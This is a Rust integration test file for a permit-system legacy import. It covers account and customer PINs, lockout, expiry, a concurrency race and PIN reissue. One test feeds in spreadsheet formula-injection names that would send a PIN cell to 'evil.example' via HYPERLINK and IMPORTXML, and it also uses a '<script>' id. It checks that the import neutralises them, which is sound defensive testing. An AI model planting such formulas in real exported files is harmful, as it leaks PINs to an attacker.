//! The legacy import (`mandate import-legacy`): the sample set, its re-run, bad rows and
//! `--strict`; then what the imported records are for: the first claimer of a mailed PIN
//! manages the account, and a customer links its legacy record with its one-time customer PIN.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use chrono::{Duration, Utc};
use mandate::ops::legacy::{ImportFiles, Summary};
use mandate::pb::Permission::Apply;
use mandate::pb::{
    AssociateByPinRequest, CheckPermissionRequest, CheckPermissionsRequest, CheckReason,
    LinkLegacyCustomerRequest, ListAccessibleApplicationsRequest, check_permissions_result,
};
use tokio::task::JoinSet;
use tonic::Code;

use crate::helpers::{
    Backend, TestApp, all_permissions, as_customer, assert_decision, channel_to, expect_code,
    spawn_app, with_key,
};
use crate::on_both_backends;

on_both_backends!(
    the_sample_import_creates_accounts_records_and_links_once,
    bad_rows_are_reported_and_strict_imports_nothing,
    a_one_time_customer_pin_links_one_customer_once_before_it_expires,
    formulas_in_imported_names_reach_the_letters_file_as_text,
    staff_reissue_an_unused_customer_pin_and_the_old_one_stops_working,
);

fn sample(file: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples/legacy")
        .join(file)
}

/// Imports into `app`'s database, writing the mail-merge file to `mail_merge`.
async fn import(
    app: &TestApp,
    accounts: Option<&Path>,
    customers: Option<&Path>,
    applications: Option<&Path>,
    mail_merge: &Path,
    strict: bool,
    customer_pin_expire_time: chrono::DateTime<Utc>,
) -> Summary {
    let settings = app.database().settings();
    let vault = mandate::server::open_vault(&settings, &app.store)
        .await
        .expect("the PIN keys");
    let mut reported: HashMap<&'static str, (usize, usize)> = HashMap::new();
    let summary = mandate::ops::legacy::import(
        &app.store,
        &vault,
        &ImportFiles {
            accounts,
            customers,
            applications,
            mail_merge,
            strict,
            customer_pin_expire_time,
        },
        &mut |stage, done, total| {
            let before = reported.insert(stage, (done, total));
            assert!(
                before.is_none_or(|(earlier, _)| earlier < done),
                "{stage}: progress goes forward"
            );
        },
    )
    .await
    .expect("an import run");
    if !summary.refused {
        for (stage, (done, total)) in reported {
            assert_eq!(done, total, "{stage}: the progress reaches the end");
        }
    }
    summary
}

async fn import_sample(app: &TestApp, mail_merge: &Path) -> Summary {
    import(
        app,
        Some(&sample("contractors.csv")),
        Some(&sample("customers.csv")),
        Some(&sample("applications.csv")),
        mail_merge,
        false,
        Utc::now() + Duration::days(180),
    )
    .await
}

/// The PINs of a mail-merge file, by legacy id.
fn pins(mail_merge: &Path) -> HashMap<String, String> {
    let mut reader = csv::Reader::from_path(mail_merge).expect("the mail-merge file");
    reader
        .records()
        .map(|record| {
            let record = record.expect("a row");
            (record[1].to_owned(), record[10].to_owned())
        })
        .collect()
}

async fn the_sample_import_creates_accounts_records_and_links_once(backend: Backend) {
    use std::os::unix::fs::PermissionsExt;

    let mut app = spawn_app(backend).await;
    let letters = app.database().dir().join("letters.csv");
    let first = import_sample(&app, &letters).await;
    assert_eq!(
        (
            first.accounts_added,
            first.customers_added,
            first.links_added
        ),
        (3, 2, 7)
    );
    assert!(first.bad.is_empty(), "{:?}", first.bad);
    let mode = std::fs::metadata(&letters)
        .expect("the mail-merge file")
        .permissions()
        .mode();
    assert_eq!(
        mode & 0o777,
        0o600,
        "the PINs are readable by their owner only"
    );
    let pins = pins(&letters);
    assert_eq!(pins.len(), 5);

    // The same files again: nothing changes, no PIN is issued, no file is written.
    let revision = app.revision_counter().await;
    let again_file = app.database().dir().join("letters-again.csv");
    let again = import_sample(&app, &again_file).await;
    assert_eq!(
        (
            again.accounts_added,
            again.customers_added,
            again.links_added
        ),
        (0, 0, 0)
    );
    assert_eq!(
        (
            again.accounts_existing,
            again.customers_existing,
            again.links_existing
        ),
        (3, 2, 7)
    );
    assert!(!again_file.exists(), "no new PINs, no mail-merge file");
    assert_eq!(
        app.revision_counter().await,
        revision,
        "a re-run changes nothing"
    );

    // A mail-merge file is never overwritten.
    let settings = app.database().settings();
    let vault = mandate::server::open_vault(&settings, &app.store)
        .await
        .expect("the PIN keys");
    let refused = mandate::ops::legacy::import(
        &app.store,
        &vault,
        &ImportFiles {
            accounts: Some(&sample("contractors.csv")),
            customers: None,
            applications: None,
            mail_merge: &letters,
            strict: false,
            customer_pin_expire_time: Utc::now(),
        },
        &mut |_, _, _| {},
    )
    .await;
    assert!(refused.is_err(), "an existing mail-merge file is refused");

    // Staff find an imported account by the legacy id it came with.
    let found = app
        .contractors
        .search_contractors(mandate::pb::SearchContractorsRequest {
            legacy_contractor_id: "MAP-C-1003".into(),
            ..Default::default()
        })
        .await
        .expect("a search by legacy id")
        .into_inner()
        .contractors;
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].business_name, "Bytown Plumbing");
    assert_eq!(found[0].legacy_contractor_id, "MAP-C-1003");

    // The first customer to enter a mailed account PIN manages the account, which holds the
    // contact's applications, the legacy one written in lower case included.
    let claimer = app.customer("marie").await.customer_id;
    let claimed = app
        .contractors
        .associate_by_pin(as_customer(
            &claimer,
            AssociateByPinRequest {
                pin: pins["MAP-C-1001"].clone(),
            },
        ))
        .await
        .expect("the mailed PIN claims the account")
        .into_inner();
    assert_eq!(claimed.permissions, all_permissions());
    let account = claimed.contractor.expect("the account").contractor_id;
    for permit in ["24-100101 BLD", "23-099870 BLD"] {
        let decision = app
            .check(&claimer, Apply, "", permit)
            .await
            .expect("a check");
        assert_decision(&decision, true, CheckReason::GrantedThroughManage);
        assert_eq!(decision.contractor_id, account);
    }

    // A legacy customer links its record, and its applications are its own.
    let sam = app.customer("sam").await.customer_id;
    let linked = app
        .identity
        .link_legacy_customer(as_customer(
            &sam,
            LinkLegacyCustomerRequest {
                customer_pin: pins["MAP-P-2001"].to_lowercase().replace('-', " "),
            },
        ))
        .await
        .expect("the one-time customer PIN links the record")
        .into_inner();
    assert_eq!(
        linked
            .legacy_customer
            .expect("the record")
            .legacy_customer_id,
        "MAP-P-2001"
    );
    let listed = app
        .permissions
        .list_accessible_applications(ListAccessibleApplicationsRequest {
            customer_id: sam.clone(),
            permission: Apply as i32,
            page_size: 10,
            page_token: String::new(),
        })
        .await
        .expect("the applications")
        .into_inner()
        .applications;
    let listed: Vec<(&str, &str)> = listed
        .iter()
        .map(|a| (a.application_id.as_str(), a.contractor_id.as_str()))
        .collect();
    assert_eq!(listed, [("24-100101 BLD", "")]);
    // In a batch, read together (cold), then from the cache (warm), then one at a time.
    for _ in 0..2 {
        let batch = app
            .permissions
            .check_permissions(CheckPermissionsRequest {
                items: ["24-100101 BLD", "24-100103 PLB"]
                    .into_iter()
                    .map(|permit| CheckPermissionRequest {
                        customer_id: sam.clone(),
                        permission: Apply as i32,
                        contractor_id: String::new(),
                        application_id: permit.to_owned(),
                        at_least_revision: 0,
                    })
                    .collect(),
            })
            .await
            .expect("a batch")
            .into_inner()
            .results;
        let decisions: Vec<(bool, i32)> = batch
            .into_iter()
            .map(|result| match result.outcome {
                Some(check_permissions_result::Outcome::Decision(d)) => (d.allowed, d.reason),
                other => panic!("a decision: {other:?}"),
            })
            .collect();
        assert_eq!(
            decisions,
            [
                (true, CheckReason::OwnApplication as i32),
                (false, CheckReason::ApplicationNotLinked as i32)
            ]
        );
    }
    let own = app
        .check(&sam, Apply, "", "24-100101 BLD")
        .await
        .expect("a check");
    assert_decision(&own, true, CheckReason::OwnApplication);
    let not_own = app
        .check(&sam, Apply, "", "24-100103 PLB")
        .await
        .expect("a check");
    assert_decision(&not_own, false, CheckReason::ApplicationNotLinked);
}

async fn bad_rows_are_reported_and_strict_imports_nothing(backend: Backend) {
    let app = spawn_app(backend).await;
    let dir = app.database().dir().to_owned();
    let accounts = dir.join("accounts.csv");
    std::fs::write(
        &accounts,
        "legacy_contractor_id,business_name,contact_name,email,phone,street,city,province,postal_code,country\n\
         A-1,Good Builders,Ann Good,ann@good.ca,+1 613-555-0101,1 Main St,Ottawa,ON,K1P 1J1,CA\n\
         A-2,,No Name,nn@good.ca,+1 613-555-0102,1 Main St,Ottawa,ON,K1P 1J1,CA\n\
         A-1,Twice Builders,Tom Twice,tt@good.ca,+1 613-555-0103,1 Main St,Ottawa,ON,K1P 1J1,CA\n\
         A-3,Bad Mail,Bea Bad,not-an-email,+1 613-555-0104,1 Main St,Ottawa,ON,K1P 1J1,CA\n",
    )
    .expect("write");
    let applications = dir.join("applications.csv");
    std::fs::write(
        &applications,
        "application_id,legacy_contractor_id,legacy_customer_id\n\
         24-1 BLD,A-1,\n\
         24-2 BLD,A-9,\n\
         <script>,A-1,\n\
         24-3 BLD,,\n",
    )
    .expect("write");
    let letters = dir.join("letters.csv");
    let revision = app.revision_counter().await;
    let strict = import(
        &app,
        Some(&accounts),
        None,
        Some(&applications),
        &letters,
        true,
        Utc::now() + Duration::days(1),
    )
    .await;
    assert!(strict.refused);
    assert_eq!(
        app.revision_counter().await,
        revision,
        "strict: nothing written"
    );
    assert!(!letters.exists(), "strict: no PIN issued");

    let lenient = import(
        &app,
        Some(&accounts),
        None,
        Some(&applications),
        &letters,
        false,
        Utc::now() + Duration::days(1),
    )
    .await;
    assert_eq!((lenient.accounts_added, lenient.links_added), (1, 1));
    let reported: Vec<(String, u64)> = lenient
        .bad
        .iter()
        .map(|b| {
            let file = Path::new(&b.file)
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            (file, b.line)
        })
        .collect();
    assert_eq!(
        reported,
        [
            ("accounts.csv".to_owned(), 3),
            ("accounts.csv".to_owned(), 4),
            ("accounts.csv".to_owned(), 5),
            ("applications.csv".to_owned(), 3),
            ("applications.csv".to_owned(), 4),
            ("applications.csv".to_owned(), 5),
        ],
        "{:#?}",
        lenient.bad
    );
    let reasons: Vec<&str> = lenient.bad.iter().map(|b| b.reason.as_str()).collect();
    assert!(reasons[0].contains("business_name"), "{reasons:?}");
    assert!(reasons[1].contains("earlier line"), "{reasons:?}");
    assert!(reasons[2].contains("email"), "{reasons:?}");
    assert!(reasons[3].contains("A-9"), "{reasons:?}");
    assert!(reasons[4].contains("application_id"), "{reasons:?}");
    assert!(reasons[5].contains("neither"), "{reasons:?}");
    assert_eq!(pins(&letters).len(), 1, "PINs only for the rows imported");
}

async fn a_one_time_customer_pin_links_one_customer_once_before_it_expires(backend: Backend) {
    let mut app = spawn_app(backend).await;
    let dir = app.database().dir().to_owned();
    let letters = dir.join("letters.csv");
    import(
        &app,
        None,
        Some(&sample("customers.csv")),
        None,
        &letters,
        false,
        Utc::now() + Duration::days(30),
    )
    .await;
    let pins = pins(&letters);
    let link = |pin: &str| LinkLegacyCustomerRequest {
        customer_pin: pin.to_owned(),
    };
    let (sam, other) = (
        app.customer("sam").await.customer_id,
        app.customer("other").await.customer_id,
    );
    app.identity
        .link_legacy_customer(as_customer(&sam, link(&pins["MAP-P-2001"])))
        .await
        .expect("linked");
    let used = expect_code(
        app.identity
            .link_legacy_customer(as_customer(&other, link(&pins["MAP-P-2001"])))
            .await,
        Code::FailedPrecondition,
    );
    assert!(used.message().contains("used already"), "{used:?}");
    let twice = expect_code(
        app.identity
            .link_legacy_customer(as_customer(&sam, link(&pins["MAP-P-2002"])))
            .await,
        Code::FailedPrecondition,
    );
    assert!(
        twice.message().contains("linked to legacy record"),
        "{twice:?}"
    );
    expect_code(
        app.identity
            .link_legacy_customer(as_customer(&other, link("2222-2222-22")))
            .await,
        Code::InvalidArgument,
    );
    let wrong = mandate_domain::pin::Pin::from_random(77).expose_formatted();
    expect_code(
        app.identity
            .link_legacy_customer(as_customer(&other, link(&wrong)))
            .await,
        Code::NotFound,
    );

    // Wrong customer PINs count toward the lockout, as wrong account PINs do.
    let guesser = app.customer("guesser").await.customer_id;
    for n in 0..10u64 {
        let wrong = mandate_domain::pin::Pin::from_random(1_000 + n).expose_formatted();
        expect_code(
            app.identity
                .link_legacy_customer(as_customer(&guesser, link(&wrong)))
                .await,
            Code::NotFound,
        );
    }
    expect_code(
        app.identity
            .link_legacy_customer(as_customer(&guesser, link(&pins["MAP-P-2002"])))
            .await,
        Code::ResourceExhausted,
    );

    // An expired customer PIN links nothing.
    let expired_letters = dir.join("expired.csv");
    let customers = dir.join("late.csv");
    std::fs::write(
        &customers,
        "legacy_customer_id,name,email\nLATE-1,Late Larry,larry@example.ca\n",
    )
    .expect("write");
    import(
        &app,
        None,
        Some(&customers),
        None,
        &expired_letters,
        false,
        Utc::now() - Duration::seconds(1),
    )
    .await;
    let late = self::pins(&expired_letters);
    let expired = expect_code(
        app.identity
            .link_legacy_customer(as_customer(&other, link(&late["LATE-1"])))
            .await,
        Code::FailedPrecondition,
    );
    assert!(expired.message().contains("expired"), "{expired:?}");
}

/// Eight customers enter one one-time customer PIN at the same moment: exactly one links it.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn customers_racing_for_one_customer_pin_link_exactly_one_on_postgres() {
    let mut app = spawn_app(Backend::Postgres).await;
    let letters = app.database().dir().join("letters.csv");
    import(
        &app,
        None,
        Some(&sample("customers.csv")),
        None,
        &letters,
        false,
        Utc::now() + Duration::days(30),
    )
    .await;
    let pin = pins(&letters)["MAP-P-2002"].clone();
    let mut ready = Vec::new();
    for i in 0..8 {
        let customer = app.customer(&format!("racer-{i}")).await.customer_id;
        ready.push((
            customer,
            with_key(channel_to(app.address()).await, &app.key),
        ));
    }
    let start = std::sync::Arc::new(tokio::sync::Barrier::new(ready.len()));
    let mut racers = JoinSet::new();
    for (customer, channel) in ready {
        let (pin, start) = (pin.clone(), start.clone());
        racers.spawn(async move {
            start.wait().await;
            mandate::pb::identity_service_client::IdentityServiceClient::new(channel)
                .link_legacy_customer(as_customer(
                    &customer,
                    LinkLegacyCustomerRequest { customer_pin: pin },
                ))
                .await
                .map(|_| ())
                .map_err(|status| status.code())
        });
    }
    let mut outcomes = Vec::new();
    while let Some(outcome) = racers.join_next().await {
        outcomes.push(outcome.expect("a racer"));
    }
    let linked = outcomes.iter().filter(|o| o.is_ok()).count();
    assert_eq!(linked, 1, "{outcomes:?}");
    assert!(
        outcomes
            .iter()
            .all(|o| o.is_ok() || *o == Err(Code::FailedPrecondition)),
        "{outcomes:?}"
    );
}

/// #17: a business name or customer name that a spreadsheet would run as a formula, next to the
/// PIN cell, reaches the letters file as text (a leading `'`), and bad rows of a CRLF file are
/// named by their own line.
async fn formulas_in_imported_names_reach_the_letters_file_as_text(backend: Backend) {
    let app = spawn_app(backend).await;
    let dir = app.database().dir().to_owned();
    let accounts = dir.join("accounts.csv");
    let rows = [
        "legacy_contractor_id,business_name,contact_name,email,phone,street,city,province,postal_code,country",
        "F-1,\"=HYPERLINK(\"\"http://evil.example/?pin=\"\"&K2,\"\"Open\"\")\",@Ann,ann@good.ca,+1 613-555-0101,-1 Main St,Ottawa,ON,K1P 1J1,CA",
        "F-2,Plain Builders,Bob Plain,bob@good.ca,+1 613-555-0102,2 Main St,Ottawa,ON,K1P 1J1,CA",
        "F-3,,No Name,nn@good.ca,+1 613-555-0103,3 Main St,Ottawa,ON,K1P 1J1,CA",
    ];
    std::fs::write(&accounts, rows.join("\r\n") + "\r\n").expect("write");
    let customers = dir.join("customers.csv");
    std::fs::write(
        &customers,
        "legacy_customer_id,name,email\r\nF-P-1,\"=IMPORTXML(CONCAT(\"\"http://evil.example/\"\",K3),\"\"//a\"\")\",eve@example.ca\r\n",
    )
    .expect("write");
    let letters = dir.join("letters.csv");
    let summary = import(
        &app,
        Some(&accounts),
        Some(&customers),
        None,
        &letters,
        false,
        Utc::now() + Duration::days(180),
    )
    .await;
    assert_eq!((summary.accounts_added, summary.customers_added), (2, 1));
    assert_eq!(summary.bad.len(), 1, "{:?}", summary.bad);
    assert_eq!(
        summary.bad[0].line, 4,
        "the row without a name is on line 4 of the CRLF file"
    );
    let mut reader = csv::Reader::from_path(&letters).expect("the letters file");
    let mut cells = Vec::new();
    for record in reader.records() {
        let record = record.expect("a row");
        cells.extend(record.iter().map(str::to_owned));
    }
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    for neutralised in [
        "'=HYPERLINK(\"http://evil.example/?pin=\"&K2,\"Open\")",
        "'@Ann",
        "'-1 Main St",
        "'=IMPORTXML(CONCAT(\"http://evil.example/\",K3),\"//a\")",
    ] {
        assert!(
            cells.iter().any(|c| c == neutralised),
            "{neutralised} in {cells:?}"
        );
    }
    assert!(
        cells.iter().any(|c| c == "Plain Builders"),
        "other text is kept"
    );
}

/// #17: staff reissue a legacy customer's one-time PIN (a letters file lost, or two imports
/// naming one file): the new PIN links, the old one is unknown; a linked record and an unknown
/// one are refused and change nothing.
async fn staff_reissue_an_unused_customer_pin_and_the_old_one_stops_working(backend: Backend) {
    use mandate::pb::ReissueCustomerPinRequest;

    let mut app = spawn_app(backend).await;
    let letters = app.database().dir().join("letters.csv");
    import_sample(&app, &letters).await;
    let old = pins(&letters)["MAP-P-2001"].clone();
    let reissued = app
        .identity
        .reissue_customer_pin(ReissueCustomerPinRequest {
            legacy_customer_id: "MAP-P-2001".into(),
            valid_days: 30,
        })
        .await
        .expect("a new customer PIN")
        .into_inner();
    assert_ne!(reissued.customer_pin, old);
    let expires = reissued.expire_time.expect("an expiry").seconds;
    let in_30_days = (Utc::now() + Duration::days(30)).timestamp();
    assert!((in_30_days - expires).abs() < 120, "valid for 30 days");
    let sam = app.customer("sam").await.customer_id;
    expect_code(
        app.identity
            .link_legacy_customer(as_customer(
                &sam,
                LinkLegacyCustomerRequest { customer_pin: old },
            ))
            .await,
        Code::NotFound,
    );
    app.identity
        .link_legacy_customer(as_customer(
            &sam,
            LinkLegacyCustomerRequest {
                customer_pin: reissued.customer_pin,
            },
        ))
        .await
        .expect("the new PIN links");
    let before = app.revision_counter().await;
    let used = expect_code(
        app.identity
            .reissue_customer_pin(ReissueCustomerPinRequest {
                legacy_customer_id: "MAP-P-2001".into(),
                valid_days: 0,
            })
            .await,
        Code::FailedPrecondition,
    );
    assert!(used.message().contains(&sam), "{used:?}");
    expect_code(
        app.identity
            .reissue_customer_pin(ReissueCustomerPinRequest {
                legacy_customer_id: "MAP-P-9999".into(),
                valid_days: 0,
            })
            .await,
        Code::NotFound,
    );
    crate::helpers::expect_invalid(
        app.identity
            .reissue_customer_pin(ReissueCustomerPinRequest {
                legacy_customer_id: "MAP-P-2002".into(),
                valid_days: 5000,
            })
            .await,
        &["valid_days"],
    );
    assert_eq!(
        app.revision_counter().await,
        before,
        "refusals change nothing"
    );
}
